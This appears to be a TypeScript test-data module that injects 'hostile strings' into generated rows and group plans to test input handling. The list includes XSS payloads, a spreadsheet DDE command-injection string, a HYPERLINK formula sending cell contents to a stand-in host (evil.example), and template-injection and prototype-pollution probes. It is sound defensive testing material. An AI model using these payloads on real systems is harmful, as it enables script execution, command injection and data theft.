import type { GroupPlan } from './groupPlans.ts';

/** Strings that break careless programs: markup, formulas, mixed directions, emoji, long text, line ends, templates. */
export const hostileStrings: readonly string[] = [
  '<img src=x onerror="alert(1)">',
  '</script><script>alert(1)</script>',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  'two\r\nlines',
  '\u202Egnirts desrever',
  'مركبات الشحن ١٢٣',
  'רכבי משלוחים',
  '👩‍👩‍👧‍👦🚚 family van',
  'Zalgo ͧ̂t̆̏e͐x̓ť',
  '"quoted", \'single\'; semi',
  '{{7*7}} ${7*7} %7B%7D &amp;',
  '__proto__',
  `${'long '.repeat(2000)}end`,
]; // prettier-ignore

/** The hostile string of a row; one row in twenty has one. */
export function hostileStringOf(row: number, salt: number): string | undefined {
  if (row % 20 !== salt) return undefined;
  return hostileStrings[Math.floor(row / 20) % hostileStrings.length];
}

/** One of each kind, short enough for a group's name. */
const hostileNames = [0, 2, 8, 9, 11, 15].map((index) => hostileStrings[index]);

/** Gives every plan a hostile description, and some plans a hostile name, starting with the seventh. */
export function hostilePlans(plans: readonly GroupPlan[]): readonly GroupPlan[] {
  return plans.map((plan, index) => ({
    ...plan,
    description: hostileStrings.at(-1 - (index % hostileStrings.length)) ?? plan.description,
    name: hostileNames[index - 6] ?? plan.name,
  }));
}
